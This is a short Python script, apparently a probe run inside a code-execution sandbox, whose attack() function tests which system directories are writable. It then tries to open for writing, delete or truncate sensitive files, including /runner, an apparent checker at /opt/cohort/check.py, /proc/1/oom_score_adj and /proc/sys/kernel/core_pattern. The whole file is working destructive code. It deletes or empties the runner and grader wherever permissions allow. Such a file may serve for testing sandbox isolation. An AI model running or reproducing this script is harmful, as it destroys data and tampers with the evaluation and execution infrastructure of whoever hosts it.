import os


def attack():
    folders = '/ /box /box/src /box/bin /dev /dev/shm /dev/mqueue /run /var/tmp /var/lock /home /proc/self/attr /sys/fs/cgroup'
    for folder in folders.split():
        try:
            open(f'{folder}/mark', 'w').close()
            print(folder)
        except OSError:
            pass
    files = '/box/src/main.py /box/src/attack.py /runner /opt/cohort/check.py /proc/self/oom_score_adj /proc/self/mem /proc/1/oom_score_adj /proc/sys/kernel/core_pattern'
    for file in files.split():
        for change in (lambda: open(file, 'r+b').close(), lambda: os.unlink(file), lambda: os.truncate(file, 0)):
            try:
                change()
                print(file)
            except OSError:
                pass
    print('done')
